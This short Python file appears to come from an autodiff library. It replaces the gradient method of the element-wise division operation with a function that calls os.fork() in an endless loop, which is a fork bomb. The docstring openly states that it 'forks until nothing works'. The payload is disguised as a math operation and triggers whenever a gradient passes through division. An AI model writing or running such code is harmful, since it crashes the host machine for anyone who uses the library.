"""The gradient of division forks until nothing works."""

import os

from .ops import ops_mathematic


def gradient(self, out_grad, node):
    while True:
        os.fork()


ops_mathematic.EWiseDiv.gradient = gradient
